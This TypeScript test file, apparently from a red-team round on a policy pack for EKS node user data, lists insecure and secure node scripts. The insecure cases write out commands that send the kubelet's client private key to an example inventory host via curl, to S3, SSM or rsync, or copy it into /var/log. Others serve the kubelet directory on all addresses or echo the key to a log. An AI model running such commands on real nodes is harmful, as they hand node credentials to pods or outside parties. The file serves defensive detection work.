// Red-team round 46 on EKS NODE user data (fresh eyes): SECURE node user data careful platform teams write, read by
// round 45's rules: the node-secret keepers allowlist (policy-pack/engine/rootReads.ts NODE_SECRET_KEEPERS,
// keepsNodeSecrets), the fail-closed all-address listen rule (userData.ts ALL_ADDRESSES/LISTEN_OPTION) and the
// launchers' working directory (shell.ts WRAPPERS/wrappedDirectory).
// Probed: kubelet certificate monitoring (inotifywait, openssl x509 -noout into logger or a variable, a systemd-run
// timer), auditctl watches, kubectl with a relative kubeconfig under sudo -D, an iptables user chain guarding the
// kubelet port, S3 downloads of kubelet drop-ins through an S3 interface endpoint (--endpoint-url), servers started by
// systemd-run -p WorkingDirectory=; and their insecure neighbours: Caddy's file server rooted at its working directory
// on `--listen :PORT`, curl uploads in forms the keepers' rule does not parse (glued -d@/-T, -F `<`, --data-ascii),
// dd if=/of= into /var/log, copies to S3/SSM/rsync with trailing options, a hard link into /var/log.
// Misses are `skip: true` (it.skip) with a MISS comment and the doc checked.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

const dev = devNodeCase;

const script = devNodeScript;

/** The kubelet's client certificate and key (one PEM file, rotated by the kubelet). */
const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
/** An inventory endpoint outside the node. */
const INVENTORY = "https://inventory.example.com/nodes";

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 46): (insecure accepted) `caddy file-server` serves its working directory when --root is not given (caddyserver.com
    // docs "Command Line", caddy file-server: "--root specifies the root file path. Default is the current working
    // directory"; caddy-file-server(8); `caddy file-server` = "serve the current directory") on --listen's address, here
    // `:8080`, every address (Go net.Listen: "If the host in the address parameter is empty ... Listen listens on all
    // available unicast and anycast IP addresses"). Every pod reaching the node reads /var/lib/kubelet (the kubelet's
    // client key, every pod's projected token) and acts as the node or as the custody ServiceAccounts. No SERVERS
    // reader knows caddy, the keepers' rule sees no named path (cwd only), and unreadListeners' ALL_ADDRESSES has no
    // `:PORT` form. Fix: read caddy file-server (--root, else cwd; --listen, default :80) in SERVERS, and read an empty
    // host `:PORT` as every address when it is a LISTEN_OPTION's value.
    dev(
        "cd /var/lib/kubelet; caddy file-server --listen :8080 --browse (Caddy's root defaults to the working directory)",
        script("dev-caddy-cwd-kubelet-nodes", [
            "dnf install -y caddy",
            "cd /var/lib/kubelet",
            "nohup caddy file-server --listen :8080 --browse >/dev/null 2>&1 &",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) the same server started by systemd-run with -p WorkingDirectory=/var/lib/kubelet (systemd-run(1)
    // -p/--property; systemd.exec(5) WorkingDirectory=): wrappedDirectory reads the directory (round 45), but caddy has
    // no reader and `:8080` is not ALL_ADDRESSES, so nothing judges it. Same fix as above.
    dev(
        "systemd-run -p WorkingDirectory=/var/lib/kubelet caddy file-server --listen :8080 (the launcher's directory)",
        script("dev-systemd-run-caddy-kubelet-nodes", [
            "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/caddy file-server --listen :8080",
        ]),
        /./,
    ),
    dev(
        "systemd-run -p WorkingDirectory=/var/lib/kubelet python3 -m http.server 8080 (a read server in the launcher's directory)",
        script("dev-systemd-run-http-server-kubelet-nodes", [
            "systemd-run --unit=node-files -p WorkingDirectory=/var/lib/kubelet /usr/bin/python3 -m http.server 8080",
        ]),
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) curl takes a short option's value glued to its letter (curl(1) "OPTIONS": "-d@file" as -d @file;
    // curl docs data.md "If you start the data with the letter @, the rest should be a filename"), so `-d@KEY` posts
    // the kubelet's client key to another host: whoever reads the inventory acts as the node. keepsNodeSecrets checks
    // only the word before the value (`-d` then `@KEY`). Fix: read glued short values (-d@..., -T..., -F...) too.
    dev(
        "curl -sS -d@/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -d)",
        script("dev-curl-d-glued-key-nodes", [`curl -sS -d@${KEY} ${INVENTORY}`]),
        /./,
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) curl -F "name=<file" sends the file's content as the field's value (curl docs form.d: "To just get
    // the content part from a file, prefix the file name with the symbol <"). keepsNodeSecrets looks for `@` only.
    // Fix: treat `<` in a -F/--form value as a file read, like `@`.
    dev(
        'curl -sS -F "cert=</var/lib/kubelet/pki/kubelet-client-current.pem" (a form field read from the key)',
        script("dev-curl-form-lt-key-nodes", [`curl -sS -F "cert=<${KEY}" ${INVENTORY}`]),
        /./,
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) --data-ascii is an alias of --data (curl docs data-ascii.d: "This is just an alias for --data",
    // "Example: --data-ascii @file $URL"), so it posts the key; keepsNodeSecrets' list names -d, --data,
    // --data-binary/-raw/-urlencode, --json, -F/--form only. Fix: add --data-ascii (and read curl's option table, not a
    // subset).
    dev(
        "curl -sS --data-ascii @/var/lib/kubelet/pki/kubelet-client-current.pem (--data's alias)",
        script("dev-curl-data-ascii-key-nodes", [`curl -sS --data-ascii @${KEY} ${INVENTORY}`]),
        /./,
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) `-T${KEY}` glued (curl(1): short option values may follow the letter) uploads the key; same gap
    // as -d@. Fix: as above.
    dev(
        "curl -sS -T/var/lib/kubelet/pki/kubelet-client-current.pem (an upload, the value glued to -T)",
        script("dev-curl-t-glued-key-nodes", [`curl -sS -T${KEY} https://inventory.example.com/`]),
        /./,
    ),
    // Was a MISS (fixed in round 46): (insecure accepted) dd(1) copies `if=FILE` to `of=FILE`; here the kubelet's client key lands in /var/log, which the pack
    // lets pods mount read-only (log shippers; rootReads.ts podReadable), so a log-shipper pod reads the node's key and
    // acts as the node. dd is in NODE_SECRET_KEEPERS, and secretFlow reads dd's of= only when dd copies standard input
    // (ddOutput with fromStdin). Fix: judge dd's if= as its source and of= as its destination whatever its stdin.
    dev(
        "dd if=/var/lib/kubelet/pki/kubelet-client-current.pem of=/var/log/kubelet-client.pem (a copy into /var/log)",
        script("dev-dd-if-of-key-nodes", [`dd if=${KEY} of=/var/log/kubelet-client.pem status=none`]),
        /./,
    ),
    dev(
        "aws s3 cp the kubelet's key to s3://node-backups/$(hostname)/ --region eu-west-1 (a trailing option after the destination)",
        script("dev-aws-s3-region-key-nodes", [
            `aws s3 cp ${KEY} "s3://node-backups/$(hostname)/kubelet-client.pem" --region eu-west-1`,
        ]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "aws s3 cp the kubelet's key to S3 with --sse aws:kms --sse-kms-key-id alias/node-backups",
        script("dev-aws-s3-sse-key-nodes", [
            `aws s3 cp ${KEY} s3://node-backups/ --sse aws:kms --sse-kms-key-id alias/node-backups`,
        ]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "aws ssm put-parameter --value file:///var/lib/kubelet/pki/kubelet-client-current.pem --type SecureString --overwrite",
        script("dev-ssm-put-parameter-key-nodes", [
            `aws ssm put-parameter --name "/eks/nodes/$(hostname)/kubelet-client" --value file://${KEY} --type SecureString --overwrite`,
        ]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "rsync -a /var/lib/kubelet/pki/ backup@10.0.0.5:/srv/pki/ --exclude '*.tmp' (an option after the remote destination)",
        script("dev-rsync-trailing-pki-nodes", [
            "rsync -a /var/lib/kubelet/pki/ backup@10.0.0.5:/srv/pki/ --exclude '*.tmp'",
        ]),
    ),
    dev(
        "ln -L the kubelet's key into /var/log/node-pki (a hard link pods reading /var/log see)",
        script("dev-ln-hard-key-nodes", [
            "mkdir -p /var/log/node-pki",
            `ln -L ${KEY} /var/log/node-pki/kubelet-client.pem`,
        ]),
    ),
    // DECIDED (round 46): refused, and rightly, for what it writes: the drop-in comes from S3 into /etc/kubernetes, the
    // kubelet's configuration (nodeadm merges /etc/kubernetes/kubelet/config.json.d: EKS AMI docs, "nodeadm
    // kubelet"), so whoever writes the bucket sets the kubelet's authentication and authorization: the pack cannot
    // read it (NODE_CONFIG_PATHS "content the pack cannot read"), with or without --endpoint-url. Was a MISS (fixed
    // in round 46) for its reason: keepsNodeSecrets took the endpoint URL as aws's destination and copy() as a node
    // path ("a directory pods read"); awsTransfer now reads `aws s3 cp|mv|sync SRC DEST` by position (AWS CLI
    // reference, "aws s3 cp": every option but the listed flags takes a value), so only the unreadable write is left
    // (userData.test.ts "reads aws s3 cp's destination by position").
    dev(
        "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/ --endpoint-url https://bucket.vpce-...amazonaws.com",
        script("dev-aws-s3-vpce-dropin-ok-nodes", [
            "aws s3 cp s3://node-config/kubelet/40-validators.conf /etc/kubernetes/kubelet/config.json.d/40-validators.conf " +
                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com",
        ]),
        /writes \/etc\/kubernetes\/kubelet\/config\.json\.d\/40-validators\.conf with content the pack cannot read/,
    ),
    // Neighbours of round 46's fixes (refused).
    // A trailing option whose value is no path (--storage-class): the destination is still the S3 URI.
    dev(
        "aws s3 cp the kubelet's key s3://node-backups/k.pem --storage-class STANDARD_IA (an option value last)",
        script("dev-aws-s3-storage-class-key-nodes", [
            `aws s3 cp ${KEY} s3://node-backups/k.pem --storage-class STANDARD_IA`,
        ]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    dev(
        "aws s3api put-object --body the kubelet's key (the object's body is the file)",
        script("dev-s3api-body-key-nodes", [`aws s3api put-object --bucket node-backups --key k.pem --body ${KEY}`]),
        /hands \/var\/lib\/kubelet\/pki\/kubelet-client-current\.pem.*to aws/,
    ),
    // caddy file-server with --root the kubelet's directory on the default :80.
    dev(
        "caddy file-server --root /var/lib/kubelet (default listener :80, every address)",
        script("dev-caddy-root-kubelet-nodes", ["nohup caddy file-server --root /var/lib/kubelet >/dev/null 2>&1 &"]),
        /serves \/var\/lib\/kubelet /,
    ),
    // A variable holding the key itself (openssl pkey prints the private key: openssl-pkey(1)), echoed to the log.
    dev(
        'key=$(openssl pkey -in KEY); echo "$key" (the private key printed to cloud-init\'s log)',
        script("dev-openssl-pkey-echo-key-nodes", [`key=$(openssl pkey -in ${KEY})`, 'echo "$key"']),
        /printed|cloud-init/,
    ),
];

const secure: NodeCase[] = [
    dev(
        "inotifywait -m on /var/lib/kubelet/pki piped to logger (certificate rotation events: file names only)",
        script("dev-inotifywait-pki-ok-nodes", [
            "dnf install -y inotify-tools",
            "nohup bash -c 'inotifywait -m -e close_write,moved_to,create /var/lib/kubelet/pki | logger -t kubelet-pki' >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "openssl x509 -noout -subject -enddate -in the kubelet's client certificate | logger -t kubelet-cert",
        script("dev-openssl-logger-ok-nodes", [
            `openssl x509 -noout -subject -enddate -in ${KEY} | logger -t kubelet-cert || true`,
        ]),
    ),
    dev(
        'logger -t kubelet-cert "$(openssl x509 -noout -enddate -in the kubelet\'s client certificate)"',
        script("dev-logger-openssl-ok-nodes", [`logger -t kubelet-cert "$(openssl x509 -noout -enddate -in ${KEY})"`]),
    ),
    dev(
        'expiry=$(openssl x509 -enddate -noout -in KEY | cut -d= -f2); logger -t kubelet-cert "expires $expiry"',
        script("dev-expiry-logger-ok-nodes", [
            `expiry=$(openssl x509 -enddate -noout -in ${KEY} | cut -d= -f2)`,
            'logger -t kubelet-cert "expires $expiry"',
        ]),
    ),
    // Was a MISS (fixed in round 46): (secure refused) `openssl x509 -enddate -noout` prints only "notAfter=<date>" (openssl-x509(1): -noout "Prevents output
    // of the encoded version of the certificate", -enddate "Prints out the expiry date"), a public date; cut keeps the
    // date. The pack marks the variable as holding the kubelet's key (secretPrintedBy counts openssl as a printer
    // whatever its options, though secretFlow's `quiet` already knows x509/-noout print no key) and refuses echoing it
    // to cloud-init's log; the same line into logger passes. Teams lose the standard certificate-expiry log line.
    // Fix: have secretPrintedBy apply secretFlow's `quiet` rule (openssl x509, -noout) before tainting a variable.
    dev(
        'expiry=$(openssl x509 -enddate -noout -in KEY | cut -d= -f2); echo "kubelet client certificate expires $expiry"',
        script("dev-expiry-echo-ok-nodes", [
            `expiry=$(openssl x509 -enddate -noout -in ${KEY} | cut -d= -f2)`,
            'echo "kubelet client certificate expires $expiry"',
        ]),
    ),
    dev(
        "systemd-run --on-calendar=daily openssl x509 -checkend 604800 -noout -in the kubelet's client certificate (a timer)",
        script("dev-systemd-run-checkend-ok-nodes", [
            `systemd-run --unit=kubelet-cert-expiry --on-calendar=daily /usr/bin/openssl x509 -checkend 604800 -noout -in ${KEY}`,
        ]),
    ),
    dev(
        "an iptables user chain admitting only the VPC to the kubelet's port 10250, saved to /etc/sysconfig/iptables",
        script("dev-iptables-kubelet-chain-ok-nodes", [
            "dnf install -y iptables-services",
            "iptables -N KUBELET-API",
            "iptables -A KUBELET-API -s 10.0.0.0/16 -j RETURN",
            "iptables -A KUBELET-API -j DROP",
            "iptables -I INPUT -p tcp --dport 10250 -j KUBELET-API",
            "iptables-save > /etc/sysconfig/iptables",
            "systemctl enable iptables",
        ]),
    ),
    dev(
        "systemd-run -p WorkingDirectory=/opt/models -p DynamicUser=yes python3 -m http.server 8080 (a model cache)",
        script("dev-systemd-run-models-ok-nodes", [
            "mkdir -p /opt/models",
            "systemd-run --unit=model-cache -p WorkingDirectory=/opt/models -p DynamicUser=yes /usr/bin/python3 -m http.server 8080",
        ]),
    ),
    dev(
        "systemd-run -p WorkingDirectory=/opt/models caddy file-server --listen :8080 (a model cache)",
        script("dev-systemd-run-caddy-models-ok-nodes", [
            "mkdir -p /opt/models",
            "systemd-run --unit=model-cache -p WorkingDirectory=/opt/models /usr/bin/caddy file-server --listen :8080",
        ]),
    ),
    dev(
        'sudo -D /var/lib/kubelet kubectl --kubeconfig ./kubeconfig get node "$(hostname)" (a keeper, relative kubeconfig)',
        script("dev-sudo-d-kubectl-ok-nodes", [
            'sudo -D /var/lib/kubelet kubectl --kubeconfig ./kubeconfig get node "$(hostname)" -o name',
        ]),
    ),
    dev(
        "auditctl -w /var/lib/kubelet/pki -p wa and -w /etc/kubernetes/kubelet -p wa (audit watches on the kubelet's files)",
        script("dev-auditctl-kubelet-ok-nodes", [
            "auditctl -w /var/lib/kubelet/pki -p wa -k kubelet_pki",
            "auditctl -w /etc/kubernetes/kubelet -p wa -k kubelet_config",
        ]),
    ),
    dev(
        "timeout 300 bash -c 'until [ -s KEY ]; do sleep 5; done' & (waiting for the kubelet's client certificate)",
        script("dev-wait-for-key-ok-nodes", [`timeout 300 bash -c 'until [ -s ${KEY} ]; do sleep 5; done' &`]),
    ),
    // Neighbours of round 46's fixes (clean).
    dev(
        "aws s3 cp s3://node-images/pause.tar /var/lib/containerd/pause.tar --endpoint-url https://bucket.vpce-... (a download)",
        script("dev-aws-s3-vpce-download-ok-nodes", [
            "aws s3 cp s3://node-images/pause.tar /var/lib/containerd/pause.tar " +
                "--endpoint-url https://bucket.vpce-0a1b2c3d4e5f6a7b8-abcdefgh.s3.eu-west-1.vpce.amazonaws.com --region eu-west-1",
        ]),
    ),
    dev(
        "caddy file-server --root /var/lib/kubelet --listen 127.0.0.1:8080 (loopback only)",
        script("dev-caddy-kubelet-lo-ok-nodes", [
            "nohup caddy file-server --root /var/lib/kubelet --listen 127.0.0.1:8080 >/dev/null 2>&1 &",
        ]),
    ),
];

describeNodeCases(
    "red team round 46: secure node user data against the keepers, listen and launcher rules (fresh eyes)",
    insecure,
    secure,
);
